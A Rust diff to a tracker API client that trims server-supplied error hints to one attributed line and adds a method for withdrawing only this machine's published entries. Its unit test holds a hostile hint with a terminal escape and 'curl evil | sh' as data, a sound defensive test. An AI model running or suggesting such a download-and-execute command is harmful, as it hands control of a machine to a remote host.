@@ -108,7 +108,9 @@ impl ApiError {
             ),
             Self::Problem(problem, _) => {
                 let (kind, fix) = advice(self.problem(), tracker);
-                let fix = problem.hint.clone().unwrap_or(fix);
+                // Its words, not ours: one line, and said to be so.
+                let hint = problem.hint.as_deref().and_then(|hint| hint.lines().next());
+                let fix = hint.map_or(fix, |hint| format!("The tracker says: {}", sentence(hint)));
                 Fault::new(kind, what, sentence(&problem.title), fix)
             }
         }
@@ -218,7 +220,14 @@ impl Api {
         json(&self.call(Method::POST, url, Some(body), LONG).await?)
     }
 
-    /// Takes the caller's entries for `item` out. One that is not there is no error: it is what was wanted.
+    /// Takes this machine's part of the caller's entries for `item` out; what other machines publish stays.
+    pub(crate) async fn withdraw(&self, item: InfoHash) -> Result<(), ApiError> {
+        let mut url = self.url(&["v1", "files", &item.to_string()]);
+        url.query_pairs_mut().append_pair("part", "mine");
+        self.call(Method::DELETE, url, None, LONG).await.map(drop)
+    }
+
+    /// Takes the caller's entries for `item` out, whichever machine published them.
     pub(crate) async fn unpublish(&self, item: InfoHash) -> Result<(), ApiError> {
         let url = self.url(&["v1", "files", &item.to_string()]);
         self.call(Method::DELETE, url, None, LONG).await.map(drop)
@@ -364,4 +373,21 @@ impl Body {
 
 fn json<T: DeserializeOwned>(answer: &Answer) -> Result<T, ApiError> {
     serde_json::from_slice(&answer.body).map_err(|error| ApiError::Malformed(error.to_string()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_trackers_advice_is_one_line_and_said_to_be_its_own() {
+        let problem = Problem {
+            r#type: ProblemType::Invalid.as_str().into(),
+            status: 422,
+            title: "no".into(),
+            hint: Some("run\u{1b}[2J this:\n  curl evil | sh".into()),
+        };
+        let fault = ApiError::Problem(problem, None).fault("cannot publish", "home");
+        assert_eq!(fault.fix, "The tracker says: Run[2J this:.");
+    }
 }
